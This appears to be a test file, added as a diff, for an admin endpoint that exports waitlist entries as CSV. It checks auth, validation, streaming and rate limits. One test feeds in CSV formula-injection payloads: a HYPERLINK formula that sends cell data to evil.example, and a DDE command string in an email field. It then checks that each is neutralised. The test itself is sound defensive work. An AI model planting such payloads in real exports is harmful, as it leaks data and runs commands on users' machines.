@@ -1,0 +1,156 @@
+import { parse } from "csv-parse/sync";
+
+import { resetDatabase, useTestDatabase } from "@/test/db";
+import { GET } from "@/app/api/admin/waitlist/export/route";
+import { createSessionCookie } from "@/lib/auth/session";
+import { EXPORT_BATCH_SIZE } from "@/lib/data/waitlist-admin";
+import { withSql } from "@/lib/db";
+
+useTestDatabase();
+
+const BASE = "http://localhost/api/admin/waitlist/export";
+const HEADER = ["Name", "Email", "Business Type", "Team Size", "Joined"];
+
+async function adminCookie(): Promise<string> {
+  const [admin] = await withSql((sql) =>
+    sql.query<{ id: number }>(`INSERT INTO "admin_users" ("name", "email", "password") VALUES ('Ada', 'ada@example.com', 'x') RETURNING "id"`),
+  );
+  return (await createSessionCookie(new Request(BASE), { adminId: admin!.id, sessionVersion: 0 })).split(";")[0]!;
+}
+
+const get = (query: string, cookie?: string) => GET(new Request(`${BASE}${query}`, { headers: cookie ? { cookie } : {} }), undefined);
+
+const parseCsv = (text: string) => parse(text, { bom: true }) as string[][];
+
+async function insert(rows: [name: string, email: string, businessType: string, employees: string, joinedAt: string][]) {
+  await withSql(async (sql) => {
+    for (const row of rows) {
+      await sql.query(`INSERT INTO "waitlist" ("name", "email", "businessType", "employees", "joinedAt") VALUES ($1, $2, $3, $4, $5)`, row);
+    }
+  });
+}
+
+describe(`GET /api/admin/waitlist/export (${process.env.DATABASE_URL ? "PostgreSQL" : "embedded"})`, () => {
+  let cookie: string;
+  beforeEach(async () => {
+    await resetDatabase();
+    cookie = await adminCookie();
+  });
+
+  it("answers 401 without a session", async () => {
+    const response = await get("");
+    expect(response.status).toBe(401);
+    expect(response.headers.get("content-type")).toMatch(/application\/json/);
+  });
+
+  it("answers 400 with a message for bad parameters, and exports only GET", async () => {
+    const response = await get("?sort=random", cookie);
+    expect(response.status).toBe(400);
+    expect((await response.json()).message).toMatch(/sort must be one of/);
+    expect(Object.keys(await import("@/app/api/admin/waitlist/export/route"))).toEqual(["GET"]);
+  });
+
+  it("downloads an attachment named waitlist_entries.csv with just the header when the list is empty", async () => {
+    const response = await get("", cookie);
+    expect(response.status).toBe(200);
+    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
+    expect(response.headers.get("content-disposition")).toBe('attachment; filename="waitlist_entries.csv"');
+    expect(response.headers.get("cache-control")).toBe("no-store");
+    expect(parseCsv(await response.text())).toEqual([HEADER]);
+  });
+
+  it("round-trips hostile values through a CSV parser, with formulas neutralised", async () => {
+    const hostile: [string, string][] = [
+      ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"],
+      ["+1", "'+1"],
+      ["-2+3", "'-2+3"],
+      ["@SUM(A1)", "'@SUM(A1)"],
+      ["\tTab", "'\tTab"],
+      ["\rReturn", "'\rReturn"],
+      ['Quote "Q" Quinn', 'Quote "Q" Quinn'],
+      ["Comma, Inc", "Comma, Inc"],
+      ["Line one\nLine two", "Line one\nLine two"],
+      ["Siobhán Ó Briain", "Siobhán Ó Briain"],
+      ["李小龙", "李小龙"],
+      ["Zoë 👩‍🔧", "Zoë 👩‍🔧"],
+    ];
+    await insert(
+      hostile.map(([name], index) => [name, `person${index}@example.com`, "car", "1", `2025-01-${String(index + 1).padStart(2, "0")}T08:00:00Z`]),
+    );
+    await insert([["Mallory", "=cmd|' /C calc'!A0@example.com", "therapy", "11+", "2024-12-01T00:00:00Z"]]);
+
+    const records = parseCsv(await (await get("?sort=joined_asc", cookie)).text());
+    expect(records[0]).toEqual(HEADER);
+    expect(records[1]).toEqual(["Mallory", "'=cmd|' /C calc'!A0@example.com", "Therapy & counselling", "11+", "2024-12-01T00:00:00.000Z"]);
+    expect(records.slice(2)).toEqual(
+      hostile.map(([, expected], index) => [
+        expected,
+        `person${index}@example.com`,
+        "Car valeting & detailing",
+        "Just me",
+        `2025-01-${String(index + 1).padStart(2, "0")}T08:00:00.000Z`,
+      ]),
+    );
+  });
+
+  it("exports only the matches of a search, in the chosen order", async () => {
+    await insert([
+      ["Ann Smith", "ann@example.com", "cleaning", "2-5", "2025-01-01T00:00:00Z"],
+      ["Bob Jones", "bob@example.com", "car", "6-10", "2025-01-02T00:00:00Z"],
+      ["Cat Smith", "cat@example.com", "beauty", "1", "2025-01-03T00:00:00Z"],
+    ]);
+    const byName = parseCsv(await (await get("?q=SMITH&sort=name_asc", cookie)).text());
+    expect(byName.slice(1).map((record) => record[0])).toEqual(["Ann Smith", "Cat Smith"]);
+    const newestFirst = parseCsv(await (await get("?q=smith", cookie)).text());
+    expect(newestFirst.slice(1).map((record) => record[0])).toEqual(["Cat Smith", "Ann Smith"]);
+    const byLabel = parseCsv(await (await get("?q=valeting", cookie)).text());
+    expect(byLabel.slice(1)).toEqual([["Bob Jones", "bob@example.com", "Car valeting & detailing", "6-10", "2025-01-02T00:00:00.000Z"]]);
+  });
+
+  it("streams: the first rows arrive before the rest of the table has been read", async () => {
+    const total = EXPORT_BATCH_SIZE * 3;
+    await withSql((sql) =>
+      sql.query(
+        `INSERT INTO "waitlist" ("name", "email", "businessType", "employees", "joinedAt")
+         SELECT 'Person ' || i, 'p' || i || '@example.com', 'trades', '2-5', timestamptz '2025-01-01 00:00:00+00' + i * interval '1 second'
+         FROM generate_series(1, $1::int) AS i`,
+        [total],
+      ),
+    );
+    const response = await get("", cookie);
+    const reader = response.body!.getReader();
+    const decoder = new TextDecoder();
+    const first = await reader.read();
+    const firstText = decoder.decode(first.value, { stream: true });
+    // The header and the first rows, long before the whole table: the stream did not wait for it.
+    const firstLines = firstText.split("\r\n").length - 1;
+    expect(firstLines).toBeGreaterThan(1);
+    expect(firstLines).toBeLessThanOrEqual(1 + EXPORT_BATCH_SIZE);
+
+    // A row that sorts last (the oldest) added now can only appear if the tail is read after the first chunk went out.
+    await insert([["Late Comer", "late@example.com", "other", "1", "2000-01-01T00:00:00Z"]]);
+    let text = firstText;
+    for (;;) {
+      const { done, value } = await reader.read();
+      if (done) break;
+      text += decoder.decode(value, { stream: true });
+    }
+    const records = parseCsv(text);
+    expect(records).toHaveLength(1 + total + 1);
+    expect(records[1]![0]).toBe(`Person ${total}`);
+    expect(records.at(-1)![0]).toBe("Late Comer");
+    expect(new Set(records.map((record) => record[1])).size).toBe(records.length);
+  });
+
+  it("limits how often one admin can export", async () => {
+    for (let index = 0; index < 20; index++) {
+      const response = await get("", cookie);
+      expect(response.status).toBe(200);
+      await response.body?.cancel();
+    }
+    const refused = await get("", cookie);
+    expect(refused.status).toBe(429);
+    expect(refused.headers.get("retry-after")).toMatch(/^\d+$/);
+    expect((await refused.json()).message).toMatch(/Too many exports/);
+  });
+});
